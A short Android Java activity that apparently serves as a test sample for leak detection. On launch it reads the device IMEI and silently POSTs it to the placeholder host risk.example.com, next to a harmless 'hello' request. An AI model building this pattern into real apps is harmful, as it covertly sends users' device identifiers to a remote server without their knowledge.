package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;

public class Main extends Activity {
    private static final MediaType TEXT = MediaType.parse("text/plain");
    private final OkHttpClient client = new OkHttpClient();

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        RequestBody about = body(phone.getImei());
        RequestBody greeting = body("hello");
        hello(greeting);
        report(about);
    }

    private static RequestBody body(String text) {
        return RequestBody.create(TEXT, text);
    }

    private void hello(RequestBody greeting) {
        Request request = new Request.Builder().url("https://www.example.com/").post(greeting).build();
        client.newCall(request).enqueue(new Ignore());
    }

    private void report(RequestBody about) {
        Request request = new Request.Builder().url("https://risk.example.com/").post(about).build();
        client.newCall(request).enqueue(new Ignore());
    }
}
